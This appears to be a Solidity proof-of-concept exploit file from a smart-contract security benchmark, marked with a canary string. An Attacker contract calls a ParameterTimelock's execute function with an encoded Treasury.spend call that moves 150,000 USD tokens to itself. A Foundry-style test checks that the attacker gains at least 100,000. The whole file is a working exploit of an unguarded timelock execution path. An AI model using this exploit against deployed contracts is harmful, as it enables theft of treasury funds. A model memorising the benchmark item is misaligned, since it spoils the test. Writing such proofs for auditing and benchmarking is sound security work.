// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.30;

// assay-canary-7d3b6c1e-52a4-4f0c-9be8-1f6a0d94c7e2
import "../Base.sol";

contract Attacker {
    function run(ParameterTimelock timelock, address treasury, Usd usd) external {
        bytes memory data = abi.encodeCall(Treasury.spend, (usd, address(this), 150_000e6));
        timelock.execute(treasury, data, "mine");
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(timelock, address(treasury), usd);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 100_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(timelock);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
